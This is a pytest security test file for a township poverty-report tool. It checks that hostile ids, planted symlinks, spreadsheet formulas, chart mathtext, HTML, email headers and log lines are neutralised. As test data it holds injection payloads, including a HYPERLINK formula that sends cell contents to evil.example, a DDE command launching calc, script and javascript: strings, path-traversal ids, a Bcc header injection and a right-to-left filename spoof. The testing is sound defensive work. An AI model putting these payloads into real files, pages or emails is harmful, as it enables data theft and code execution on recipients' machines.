"""Untrusted data on the output side, whatever validation lets through.

Ids never become paths that leave ``--out`` (canaries around the folder, hostile
ids, planted symlinks), nothing from the data becomes a formula cell, a link
scheme or mathtext, control characters never break a writer, and whatever
``fupin validate`` accepts, ``fupin run`` renders.
"""

from __future__ import annotations

import html
import io
import json
import os
import random
import re
import shutil
import unicodedata
from dataclasses import replace
from pathlib import Path
from urllib.parse import urlsplit

import openpyxl
import pandas as pd
import pytest
from matplotlib.text import Text

from conftest import fupin_cli
from fupin.report import charts as plots
from fupin.core.config import NOTEBOOKS_DIR, REFERENCE_TOWNSHIP_ID
from fupin.batch.county_page import write_county_page
from fupin.report.county_table import report_href, township_row
from fupin.core.errors import UnsafePath
from fupin.report.workbook import workbook_bytes, write_follow_up
from fupin.core.files import id_path, inside, is_safe_name, safe_name
from fupin.core.text import FORMULA_STARTS, cell_text, chart_text, url_segment
from fupin.mail.content import county_table
from fupin.figures.analysis import analyse
from fupin.batch.jobs import Job, TownshipResult, _remove_stale, run_township
from fupin.figures.parameters import report_parameters
from fupin.batch.runner import REPORT_NOTEBOOKS, TOWNSHIP_OUTPUTS, check_out_folder
from fupin.core.lock import FolderLock

TID = REFERENCE_TOWNSHIP_ID
HOSTILE_IDS = ["../../x", "..", ".", "../x", "a/b", "..\\..\\x", "C:x", "javascript:alert(1)", "a\x00b", "NUL", "",
               " ", "x" * 33, "城关镇", ".fupin"]


# --------------------------------------------------------------------------- helpers


def snapshot(root: Path) -> dict[str, tuple]:
    """Every entry under ``root`` (links not followed): kind, bytes or link target, mtime."""
    found: dict[str, tuple] = {}
    for folder, dirs, files in os.walk(root, followlinks=False):
        for name in dirs + files:
            path = Path(folder) / name
            rel = path.relative_to(root).as_posix()
            st = path.lstat()
            if path.is_symlink():
                found[rel] = ("link", os.readlink(path))
            elif path.is_dir():
                found[rel] = ("dir", st.st_mtime_ns)
            else:
                found[rel] = ("file", path.read_bytes(), st.st_mtime_ns)
    return found


def plant_canaries(root: Path) -> None:
    """Files and folders around a report folder ``root/ws/work/out``: parent, siblings, ``x``."""
    for rel in ("canary.txt", "ws/canary.txt", "ws/x/canary.txt", "ws/sibling/canary.txt",
                "ws/work/canary.txt", "ws/work/x/canary.txt", "abs/canary.txt", "outside/canary.txt"):
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(f"canary {rel}\n", encoding="utf-8")


def job_for(out: Path, township_id: str) -> Job:
    return Job(township_id, "某镇", {"township_id": township_id}, out, NOTEBOOKS_DIR, REPORT_NOTEBOOKS, 5.0, 5.0,
               TOWNSHIP_OUTPUTS)


# --------------------------------------------------------------------------- ids are never paths


@pytest.mark.parametrize("hostile", [*HOSTILE_IDS, "ABSOLUTE"])
def test_a_hostile_id_never_becomes_a_path(tmp_path, hostile):
    plant_canaries(tmp_path)
    out = tmp_path / "ws" / "work" / "out"
    hostile = str(tmp_path / "abs") if hostile == "ABSOLUTE" else hostile
    before = snapshot(tmp_path)
    assert not is_safe_name(hostile)
    with pytest.raises(UnsafePath, match="不能用作文件或文件夹名"):
        safe_name(hostile)
    with pytest.raises(UnsafePath):
        id_path(out, hostile, "report.html")
    result = run_township(job_for(out, hostile))
    assert not result.ok and "不能用作" in result.error and result.files == []
    assert snapshot(tmp_path) == before


@pytest.mark.parametrize("part", ["..", ".", "", "/etc", "a/b", "a\\b", "a\x00b", "C:"])
def test_inside_refuses_anything_but_one_plain_name(tmp_path, part):
    with pytest.raises(UnsafePath):
        inside(tmp_path, ".fupin", part)
    assert inside(tmp_path, ".fupin", "tmp") == tmp_path.resolve() / ".fupin" / "tmp"


def test_inside_never_passes_through_a_symlink(tmp_path):
    out, outside = tmp_path / "out", tmp_path / "outside"
    (out / "a").mkdir(parents=True)
    outside.mkdir()
    (out / ".fupin").symlink_to(outside, target_is_directory=True)
    (out / "b").symlink_to(out / "a", target_is_directory=True)  # even a link inside DIR is not followed
    for parts in ((".fupin",), (".fupin", "tmp"), ("b", "report.html")):
        with pytest.raises(UnsafePath, match="符号链接"):
            inside(out, *parts)
    assert inside(out, "a", "report.html") == out.resolve() / "a" / "report.html"


def test_the_runner_never_deletes_what_it_did_not_write(tmp_path):
    out = tmp_path / "out"
    town = out / TID
    town.mkdir(parents=True)
    (tmp_path / "outside.txt").write_text("keep", encoding="utf-8")
    for name in ("report.html", "metrics.json", "follow_up.xlsx", "township_report.ipynb", "notes.txt", "old.html"):
        (town / name).write_text(name, encoding="utf-8")
    (town / "mine").mkdir()
    (town / "report.docx").symlink_to(tmp_path / "outside.txt")
    _remove_stale(town, job_for(out, TID), keep=("township_report.ipynb",))
    assert sorted(p.name for p in town.iterdir()) == ["mine", "notes.txt", "old.html", "township_report.ipynb"]
    assert (tmp_path / "outside.txt").read_text(encoding="utf-8") == "keep"


PLANTED = [(".fupin",), (".fupin", "tmp"), (".fupin", "prepared"), (".fupin", "prepared", TID), (".fupin", "lock"),
           (".fupin", "state.json"), (TID,), (TID, "report.html"), ("index.html",), ("summary.json",)]


@pytest.mark.parametrize("planted", PLANTED, ids="/".join)
def test_a_planted_symlink_is_refused_before_anything_is_written(tmp_path, planted):
    out, outside = tmp_path / "out", tmp_path / "outside"
    outside.mkdir()
    (outside / "canary.txt").write_text("canary", encoding="utf-8")
    link = out.joinpath(*planted)
    link.parent.mkdir(parents=True, exist_ok=True)
    link.symlink_to(outside, target_is_directory=True)
    before = snapshot(tmp_path)
    with pytest.raises(UnsafePath, match="符号链接"):
        check_out_folder(out.resolve(), [TID])
    assert snapshot(tmp_path) == before


def test_the_lock_file_never_follows_a_symlink(tmp_path):
    (tmp_path / "outside.txt").write_text("keep", encoding="utf-8")
    (tmp_path / ".fupin").mkdir()
    (tmp_path / ".fupin" / "lock").symlink_to(tmp_path / "outside.txt")
    with pytest.raises(OSError):
        with FolderLock(tmp_path / ".fupin" / "lock"):
            pass
    assert (tmp_path / "outside.txt").read_text(encoding="utf-8") == "keep"


def test_prepare_refuses_a_hostile_id_past_validation(sample_county, tmp_path):
    from fupin.batch.prepare import prepare

    plant_canaries(tmp_path)
    villages = sample_county.villages.copy()
    villages["township_id"] = villages["township_id"].where(villages["township_id"] != TID, "../../../x")
    county = replace(sample_county, villages=villages)
    root = tmp_path / "ws" / "work" / "out" / ".fupin" / "prepared"
    before = snapshot(tmp_path)
    with pytest.raises(UnsafePath):
        prepare(county, root, ["../../../x"], tmp_dir=tmp_path / "ws" / "work" / "out" / ".fupin" / "tmp")
    after = snapshot(tmp_path)
    assert {k: v for k, v in after.items() if not k.startswith("ws/work/out")} == before


def _county_with_township_id(source: Path, dest: Path, new_id: str) -> None:
    shutil.copytree(source, dest)
    villages = dest / "villages.csv"
    frame = pd.read_csv(villages, dtype=str, encoding="utf-8-sig", keep_default_na=False)
    first = frame.loc[0, "乡镇代码"]
    frame.loc[frame["乡镇代码"] == first, "乡镇代码"] = new_id
    frame.to_csv(villages, index=False, encoding="utf-8-sig")


@pytest.fixture(scope="module")
def tiny_county(tmp_path_factory) -> Path:
    data = tmp_path_factory.mktemp("tiny") / "data"
    proc = fupin_cli("generate", data, "--townships", 2, "--households", 80, "--seed", 15)
    assert proc.returncode == 0, proc.stderr
    return data


@pytest.mark.parametrize("hostile", ["../../x", "..", "ABSOLUTE"])
def test_cli_run_with_a_hostile_id_exits_2_and_touches_nothing(tiny_county, tmp_path, hostile):
    hostile = str(tmp_path / "abs") if hostile == "ABSOLUTE" else hostile
    data = tmp_path / "data"
    _county_with_township_id(tiny_county, data, hostile)
    plant_canaries(tmp_path)
    out = tmp_path / "ws" / "work" / "out"
    out.mkdir()
    (out / "earlier.txt").write_text("an earlier file", encoding="utf-8")
    before = snapshot(tmp_path)
    # one worker: the refusal comes before any notebook, so one kernel (not one per core) starts in vain
    proc = fupin_cli("run", data, "--year", 2018, "--out", out, "--quiet", "--workers", 1, timeout=300)
    assert proc.returncode == 2, proc.stdout + proc.stderr
    assert "Traceback" not in proc.stderr and "乡镇代码" in proc.stderr and hostile[-6:] in proc.stderr
    assert snapshot(tmp_path) == before  # nothing created, changed or deleted, --out included


# the two links of the issue through the real command; every other place: check_out_folder above
@pytest.mark.parametrize("planted", [(".fupin", "tmp"), ("TOWNSHIP",)], ids="/".join)
def test_cli_run_never_follows_a_planted_symlink(tiny_county, tmp_path, planted):
    plant_canaries(tmp_path)
    township = sorted(pd.read_csv(tiny_county / "villages.csv", dtype=str, encoding="utf-8-sig")["乡镇代码"])[0]
    out = tmp_path / "ws" / "work" / "out"
    link = out.joinpath(*(township if p == "TOWNSHIP" else p for p in planted))
    link.parent.mkdir(parents=True, exist_ok=True)
    target = tmp_path / "outside" / ("canary.txt" if planted[-1] == "lock" else "")
    link.symlink_to(target, target_is_directory=target.is_dir())
    before = snapshot(tmp_path)
    proc = fupin_cli("run", tiny_county, "--year", 2018, "--out", out, "--quiet", "--workers", 1, timeout=300)
    assert proc.returncode == 2, proc.stdout + proc.stderr
    assert "符号链接" in proc.stderr and "Traceback" not in proc.stderr
    assert snapshot(tmp_path) == before


# --------------------------------------------------------------------------- links


@pytest.mark.parametrize("hostile", HOSTILE_IDS)
def test_links_built_from_ids_are_relative_paths_without_a_scheme(hostile):
    href = report_href(hostile)
    parts = urlsplit(href)
    assert parts.scheme == "" and parts.netloc == "" and not href.startswith(("/", "\\"))
    assert href.endswith("/report.html") and href.count("/") == 1
    assert url_segment(hostile) not in ("", ".", "..") or hostile == ""
    assert not re.search(r"[\s\"'<>\\:]", href)


def test_county_page_and_email_link_a_scheme_id_as_a_path(sample_county, tmp_path):
    m = analyse(sample_county.area(TID), year=2018).metrics
    m = {**m, "township_id": "javascript:alert(1)", "township_name": '<b>镇</b>&"'}
    assert township_row(m)[0]["href"] == "javascript%3Aalert%281%29/report.html"
    table = county_table([m], "https://example.org/reports/")
    assert table.rows[0][0]["href"] == "https://example.org/reports/javascript%3Aalert%281%29/report.html"

    out = tmp_path / "out"
    out.mkdir()
    failed = TownshipResult("javascript:alert(1)", "<i>镇</i>\x0b\x00", False, 1.0, error="失败\x1f",
                            notebook=str(out / "javascript:alert(1)" / "township_report.ipynb"))
    page = write_county_page(out, sample_county, report_parameters(year=2018), [failed]).read_text(encoding="utf-8")
    hrefs = re.findall(r'href="([^"]*)"', page)
    assert "javascript%3Aalert%281%29/township_report.ipynb" in hrefs
    assert all(urlsplit(h).scheme == "" for h in hrefs), hrefs
    assert "<i>镇</i>" not in page and "&lt;i&gt;镇&lt;/i&gt;" in page
    assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", page)  # control characters removed on output
    assert sorted(p.name for p in out.iterdir()) == ["county.docx", "index.html", "run.json", "summary.json"]


# --------------------------------------------------------------------------- xlsx: no formulas


HOSTILE_TEXT = [
    ('=HYPERLINK("http://evil.example/?x="&A1,"点击")', '\'=HYPERLINK("http://evil.example/?x="&A1,"点击")'),
    ("+1+2", "'+1+2"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ("韩\x0b梅\x00", "韩梅"),
    ("\x00=1", "'=1"),
    ("普通村", "普通村"),
    ("a=b", "a=b"),
]


def _cells(book) -> list:
    return [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row]


def test_workbook_cells_are_strings_never_formulas():
    frame = pd.DataFrame({"文本": [t for t, _ in HOSTILE_TEXT], "=头": [1] * len(HOSTILE_TEXT)})
    book = openpyxl.load_workbook(io.BytesIO(workbook_bytes({"表": (frame, {"=头": "int"})})))
    ws = book["表"]
    assert [c.value for c in ws["A"]][1:] == [want for _, want in HOSTILE_TEXT]
    assert ws["B1"].value == "'=头"
    assert all(c.data_type != "f" for c in _cells(book))
    assert all(c.data_type == "s" for c in ws["A"])


def test_follow_up_from_formula_names_holds_no_formula(sample_county, tmp_path):
    villages = sample_county.villages.copy()
    mine = villages["township_id"] == TID
    villages.loc[mine, "village_name"] = [f'=HYPERLINK("http://evil.example/{i}","村{i}")' for i in range(mine.sum())]
    villages.loc[mine, "township_name"] = "=1+1\x0b"
    households = sample_county.households.copy()
    households["head_name"] = [("=", "+", "-", "@")[i % 4] + "张三\x00丰" for i in range(len(households))]
    county = replace(sample_county, villages=villages, households=households)
    path = write_follow_up(county, 2018, tmp_path / "follow_up.xlsx", township_id=TID)
    book = openpyxl.load_workbook(path)
    cells = _cells(book)
    assert cells and all(c.data_type != "f" for c in cells)
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert all(not t.startswith(FORMULA_STARTS) for t in texts)
    assert any(t.startswith("'=HYPERLINK(") for t in texts)  # the names did reach the workbook
    assert "'=1+1（990101001）" in texts
    assert not any("\x0b" in t or "\x00" in t or "张三" in t for t in texts)  # no control, no unmasked name


# --------------------------------------------------------------------------- charts: no mathtext


MATH_NAMES = ["$x^2$村", "$\\frac{$镇", "a$b$c", "$$", "\\$5$", "<b>&\"'村\x0b"]


def _with_names(obj, names):
    """A copy of a metrics structure with every village/township name replaced in turn from ``names``
    (a village's row keeps its township's name: the villages of one township stay of one township)."""
    it = iter(names * 100)
    def walk(value):
        if isinstance(value, dict):
            return {k: (next(it) if k in ("village_name", "township_name", "county_name")
                        and not (k == "township_name" and "village_id" in value) else walk(v))
                    for k, v in value.items()}
        if isinstance(value, list):
            return [walk(v) for v in value]
        return value
    return walk(obj)


def test_charts_draw_names_literally_without_mathtext(report_metrics, county_summaries):
    from fupin.report.national import national_series

    metrics = _with_names(report_metrics(), MATH_NAMES)
    figures = [
        plots.income_band_chart(metrics), plots.incidence_trend_chart(metrics, national_series()),
        plots.village_trend_chart(metrics), plots.exits_by_village_chart(metrics),
        plots.gap_decomposition_chart(metrics), plots.sensitivity_chart(metrics),
        plots.county_overview_chart(_with_names(county_summaries, MATH_NAMES)),
    ]
    shown = []
    for fig in figures:
        fig.savefig(io.BytesIO(), format="png")  # "$\frac{$" as mathtext would raise here
        for text in fig.findobj(Text):
            drawn, math = text._preprocess_math(text.get_text())
            assert math is False, text.get_text()
            shown.append(drawn)
    for name in ("$x^2$村", "$\\frac{$镇", "a$b$c", "\\$5$"):
        assert any(name in s for s in shown), name
    assert not any("\x0b" in s for s in shown)
    assert chart_text("$x^2$") == "\\$x^2\\$"


# --------------------------------------------------------------------------- validate accepts => run renders


def _random_text(rng: random.Random, controls: bool) -> str:
    """A name of random Unicode: markup, quotes, $, emoji, RTL marks, formula starts, CJK, up to 200 characters."""
    pieces = ["$", "$x^2$", "<b>", "&amp;", "&", "<script>alert(1)</script>", '"', "'", "`", "\\", "{{ x }}", "%s",
              "😀", "👨‍👩‍👧", "\u202e", "\u200f", "\u200b", "العربية", "עברית", "ﷺ", "Ω", "é", "ｱ", "　",
              "=HYPERLINK(\"http://evil.example\",\"x\")", "+", "-", "@", "村", "镇", "王", "明", "ABC", "0", "#",
              "javascript:alert(1)", "../..", "%2e%2e"]
    if controls:  # NUL is left out: a CSV holding it is refused as not text (the writers' NUL: tests above)
        pieces += ["\x0b", "\x01", "\x1f", "\x7f", "\x85"]
    starts = ["=", "+", "-", "@", "$", "<", "\u202e", ""]
    text = rng.choice(starts) + "".join(rng.choice(pieces) for _ in range(rng.randint(1, 12)))
    if rng.random() < 0.15:
        text += "长" * rng.randint(150, 190)
    return (text + rng.choice("村镇乡"))[:199]


def _hostile_names_county(source: Path, dest: Path, seed: int = 15) -> tuple[str, Path]:
    """A copy of ``source`` with random names in the villages, township and heads of its first township."""
    rng = random.Random(seed)
    shutil.copytree(source, dest)
    villages = pd.read_csv(dest / "villages.csv", dtype=str, encoding="utf-8-sig", keep_default_na=False)
    township = sorted(villages["乡镇代码"])[0]
    mine = villages["乡镇代码"] == township
    villages.loc[mine, "村名称"] = [f"{_random_text(rng, True)}{i}" for i in range(mine.sum())]
    villages.loc[mine, "乡镇名称"] = _random_text(rng, True)
    villages.to_csv(dest / "villages.csv", index=False, encoding="utf-8-sig")
    households = pd.read_csv(dest / "households.csv", dtype=str, encoding="utf-8-sig", keep_default_na=False)
    households["户主姓名"] = [_random_text(rng, True) for _ in range(len(households))]
    households.to_csv(dest / "households.csv", index=False, encoding="utf-8-sig")
    return township, dest


def _strip_controls(folder: Path) -> None:
    from fupin.core.text import without_controls

    for name in ("villages.csv", "households.csv"):
        frame = pd.read_csv(folder / name, dtype=str, encoding="utf-8-sig", keep_default_na=False)
        frame = frame.map(lambda v: without_controls(v).replace("\x85", ""))
        frame.to_csv(folder / name, index=False, encoding="utf-8-sig")


@pytest.mark.slow
def test_whatever_validate_accepts_run_renders(tiny_county, tmp_path):
    township, data = _hostile_names_county(tiny_county, tmp_path / "data")
    checked = fupin_cli("validate", data, timeout=300)
    if checked.returncode == 2:  # control characters refused: then run refuses them alike
        assert checked.stderr.strip() and "Traceback" not in checked.stderr
        refused = fupin_cli("run", data, "--year", 2018, "--out", tmp_path / "refused", "--quiet", timeout=300)
        assert refused.returncode == 2 and not (tmp_path / "refused").exists()
        _strip_controls(data)
        checked = fupin_cli("validate", data, timeout=300)
    assert checked.returncode == 0, checked.stderr
    out = tmp_path / "out"
    proc = fupin_cli("run", data, "--year", 2018, "--out", out, "--township", township, "--quiet", timeout=900)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    import fupin

    county = fupin.load(data)
    name = county.townships().set_index("township_id").loc[township, "township_name"]
    metrics = json.loads((out / township / "metrics.json").read_text(encoding="utf-8"))
    assert metrics["township_name"] == name
    report = (out / township / "report.html").read_text(encoding="utf-8")
    assert report.rstrip().endswith("</html>") and "<script>alert(1)</script>" not in report
    assert html.escape(name.replace("\x00", "")) in report or html.escape(name) in report
    index = (out / "index.html").read_text(encoding="utf-8")
    assert index.rstrip().endswith("</html>") and "<script>alert(1)</script>" not in index
    assert all(urlsplit(h).scheme in ("", "data") for h in re.findall(r'href="([^"]*)"', index + report))
    book = openpyxl.load_workbook(out / township / "follow_up.xlsx")
    cells = _cells(book)
    assert all(c.data_type != "f" for c in cells)
    assert all(not c.value.startswith(FORMULA_STARTS) for c in cells if isinstance(c.value, str))
    heads = set(county.households["head_name"].dropna())
    assert not any(c.value in heads for c in cells if isinstance(c.value, str) and len(c.value) > 1)


def test_email_subject_and_attachment_name_carry_no_control_or_path_characters():
    from fupin.mail.content import attachment_name, render_subject
    from fupin.mail.folder import Report

    m = {"county_name": "示例县", "township_id": "1", "township_name": "城关镇\r\nBcc: x@evil.example\x00/../x",
         "year": 2018, "incidence": 0.0323}
    subject = render_subject("【{county}】{township}{year}年", m)
    assert subject == "【示例县】城关镇 Bcc: x@evil.example/../x2018年"
    name = attachment_name(Report(key="1", metrics=m, html=Path("report.html"), checksum=""))
    assert not re.search(r'[\x00-\x1f/\\:*?"<>|]', name) and name.endswith(".html")


def test_a_bidi_override_in_a_name_reaches_no_subject_and_no_attachment_name():
    """A right-to-left override (and zero-width or BOM characters) in a township name would show
    ``…exe.xls`` for a name ending ``\u202eslx.exe``: the subject and file names drop them."""
    from email import policy
    from email.message import EmailMessage

    from fupin.mail.content import attachment_name, docx_attachment_name, render_subject
    from fupin.mail.folder import Report

    m = {"county_name": "示例\u200b县", "township_id": "1", "township_name": "城关镇\u202eslx.exe\ufeff\u2066",
         "year": 2018, "incidence": 0.0323}
    subject = render_subject("【{county}】{township}{year}年", m)
    report = Report(key="1", metrics=m, html=Path("report.html"), checksum="")
    names = [attachment_name(report), docx_attachment_name(report)]
    assert subject == "【示例县】城关镇slx.exe2018年"
    assert names[0].startswith("城关镇slx.exe2018年") and names[0].endswith(".html")
    for text in (subject, *names):
        assert all(unicodedata.category(ch) not in {"Cc", "Cf"} for ch in text), text
    msg = EmailMessage(policy=policy.SMTP)
    with pytest.raises(ValueError):  # the email package refuses a line break in a header, should one come
        msg["Subject"] = "城关镇\r\nBcc: x@evil.example"


def test_log_lines_escape_control_and_bidi_characters(tmp_path):
    """``--log`` lines: a name with a terminal escape or a bidi override is written escaped, one line per record."""
    import logging

    from fupin.cli import LogFormatter

    record = logging.LogRecord("fupin.run", logging.ERROR, __file__, 1, "%s %s 失败：%s", (
        "990101001", "城关镇\u202e\x1b[2J", "第一行\n伪造的一行"), None)
    line = LogFormatter("%(levelname)s %(message)s").format(record)
    assert line == "ERROR 990101001 城关镇\\u202e\\x1b[2J 失败：第一行\\x0a伪造的一行"
